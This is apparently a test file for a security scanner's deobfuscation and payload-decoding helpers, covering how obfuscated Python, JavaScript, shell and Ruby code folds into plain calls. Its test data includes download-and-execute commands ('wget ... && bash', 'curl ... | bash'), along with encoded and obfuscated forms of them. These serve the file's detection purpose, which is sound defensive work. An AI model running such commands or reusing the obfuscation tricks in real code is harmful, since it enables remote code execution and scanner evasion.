/** lib/normalise.ts and lib/decode.ts: the folding of built-up literals and the static payload decoders. */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { literalNames, normaliseCalls, normaliseCode, normaliseShell, substituteNames } from '../../../../src/core/modules/sentinel/lib/normalise.ts';
import { b85decode, charCodes, decodePayload, dropperText, unscramble } from '../../../../src/core/modules/sentinel/lib/decode.ts';

test('normaliseCode folds concatenations, escapes, char codes, reversals, joins and rot13 into plain literals', () => {
  assert.equal(normaliseCode("x = 'cu' + 'rl'"), "x = 'curl'");
  assert.equal(normaliseCode('x = "cu" "rl"'), "x = 'curl'");
  assert.equal(normaliseCode("x = 'cu' +\n    'rl'"), "x = 'curl'");
  assert.equal(normaliseCode("x = 'cu' \\\n 'rl'"), "x = 'curl'");
  assert.equal(normaliseCode('x = "\\x63\\x75\\x72\\x6c"'), "x = 'curl'");
  assert.equal(normaliseCode("x = '\\u0065val'"), "x = 'eval'");
  assert.equal(normaliseCode('\\u0065val(code)'), 'eval(code)');
  assert.equal(normaliseCode('x = chr(99)+chr(117)+chr(114)+chr(108)'), "x = 'curl'");
  assert.equal(normaliseCode('x = String.fromCharCode(99, 117, 114, 108)'), "x = 'curl'");
  assert.equal(normaliseCode("x = 'lruc'[::-1]"), "x = 'curl'");
  assert.equal(normaliseCode('x = "lruc".split("").reverse().join("")'), "x = 'curl'");
  assert.equal(normaliseCode("x = ['cu', 'rl'].join('')"), "x = 'curl'");
  assert.equal(normaliseCode("x = ''.join(['cu', 'rl'])"), "x = 'curl'");
  assert.equal(normaliseCode("x = codecs.decode('phey', 'rot13')"), "x = 'curl'");
  // a variable in the middle stays; text without building is returned as is
  assert.equal(normaliseCode("x = 'a' + name + 'b'"), "x = 'a' + name + 'b'");
  const plain = 'print("hello")';
  assert.equal(normaliseCode(plain), plain);
});

test('normaliseCalls names the call that getattr / globals() / bracket access hides', () => {
  assert.equal(normaliseCalls("getattr(__import__('o'+'s'), 'sys'+'tem')('id')"), "__import__('os').system('id')");
  assert.equal(normaliseCalls("globals()['ev'+'al'](x)"), 'eval(x)');
  assert.equal(normaliseCalls("require('child_' + 'process')['ex' + 'ec']('id')"), "require('child_process').exec('id')");
  // the global object reached by a short base64 name, by Reflect.get, or taken as a value
  assert.equal(normaliseCalls('self[atob("ZXZhbA==")](x)'), 'eval(x)');
  assert.equal(normaliseCalls('const r = Reflect.get(window, "ev" + "al");'), 'const r = eval;');
  assert.equal(normaliseCalls('const F = globalThis["Fun" + "ction"];'), 'const F = Function;');
  // (a base64 literal that is no text stays as written)
  assert.equal(normaliseCalls('x = atob("/wD/AP8A") + "a" + "b";'), 'x = atob("/wD/AP8A") + \'ab\';');
});

test('the payload decoders: base85, char codes, XOR and affine keys, split parts, nested layers; bounded', () => {
  const cmd = 'wget https://203.0.113.7/i.sh && bash i.sh';
  assert.equal(b85decode('Xk~0{Zy<MXa%^M')?.toString(), 'hello world');
  assert.deepEqual(charCodes('1, 2, 3'), undefined);
  assert.equal(charCodes('104,105,32,116,104,101,114,101,32,121,111,117,32,97,108,108')?.length, 16);
  // XOR key 91 over base64
  const xored = Buffer.from([...Buffer.from(cmd)].map((b) => b ^ 91)).toString('base64');
  assert.ok(decodePayload(xored).some(dropperText));
  // affine codes
  const codes = [...Buffer.from(cmd)].map((x) => (13 * x + 101) % 256).join(',');
  assert.ok(decodePayload(codes).some(dropperText));
  // base64 of base64
  assert.ok(decodePayload(Buffer.from(Buffer.from(cmd).toString('base64')).toString('base64')).some(dropperText));
  // three parts taken in turn
  const parts = ['', '', ''];
  [...cmd].forEach((c, i) => (parts[i % 3] += c));
  assert.equal(unscramble(parts.join('')), cmd);
  assert.equal(unscramble([...cmd].reverse().join('')), cmd);
  // plain words and oversize input decode to nothing
  assert.deepEqual(decodePayload('just some ordinary words here'), []);
  assert.deepEqual(decodePayload('A'.repeat(20_000)), []);
  assert.equal(dropperText('wget https://example.com/file.tar.gz'), false);
});

test('normaliseShell substitutes variables that hold plain words, never command substitutions', () => {
  assert.deepEqual(normaliseShell(['c=cu; c="${c}rl"', 's=ba; s="${s}sh"', '$c -fsSL "$u" | $s'].join('\n')), [
    'c=cu; c="${c}rl"',
    's=ba; s="${s}sh"',
    'curl -fsSL "$u" | bash',
  ]);
  assert.deepEqual(normaliseShell(['x=$(date)', 'echo $x'].join('\n')), ['x=$(date)', 'echo $x']);
});

test('substituteNames puts literals back into concatenations of innocuous names', () => {
  const body = ['a = "ghp_"', 'b = "R8mK2vQ7"', 'c = "T6yUb1Eo"', 'os.environ["X"] = a + b + c', 'print(a)'].join('\n');
  const names = literalNames(body);
  assert.equal(names.get('b'), '"R8mK2vQ7"');
  assert.equal(normaliseCode(substituteNames('os.environ["X"] = a + b + c', names)), 'os.environ["X"] = \'ghp_R8mK2vQ7T6yUb1Eo\'');
  // a name used alone is left as it is
  assert.equal(substituteNames('print(a)', names), 'print(a)');
});

test('normaliseShell: bash indirection `${!ref}` and a value printed from escapes are words too', () => {
  assert.deepEqual(
    normaliseShell(["h=$(printf '\\x31\\x30\\x2e\\x30')", 'a=ba; b=sh; i="$a$b"', 'ref=i', 'eval "cu""rl -s http://$h/x | ${!ref}"'].join('\n')).at(-1),
    'eval "cu""rl -s http://10.0/x | bash"',
  );
  // an indirection through a name that holds no plain word stays as written
  assert.deepEqual(normaliseShell(['ref=$(date)', 'echo ${!ref}'].join('\n')).at(-1), 'echo ${!ref}');
});

test('foldRuby: word lists, symbols, packed hex, const_get and send fold into a plain call', async () => {
  const { foldRuby } = await import('../../../../src/core/modules/sentinel/lib/normalise-ruby.ts');
  const hexOf = (s: string) => Buffer.from(s).toString('hex');
  const cmd = 'curl -s http://203.0.113.9/r | bash';
  const lines = [
    'k = Object.const_get(%w[Ker nel].join)',
    'm = ["sys", "tem"].join.to_sym',
    `c = ["${hexOf(cmd).slice(0, 20)}", "${hexOf(cmd).slice(20)}"].join`,
    'k.send(m, [c].pack("H*"))',
  ];
  assert.equal(foldRuby(lines)[3], `Kernel.system('${cmd}')`);
  // ordinary metaprogramming with no literal pieces stays as written
  const plain = ['obj.send(method_name, *args)', 'list.join(", ")'];
  assert.deepEqual(foldRuby(plain), plain);
});
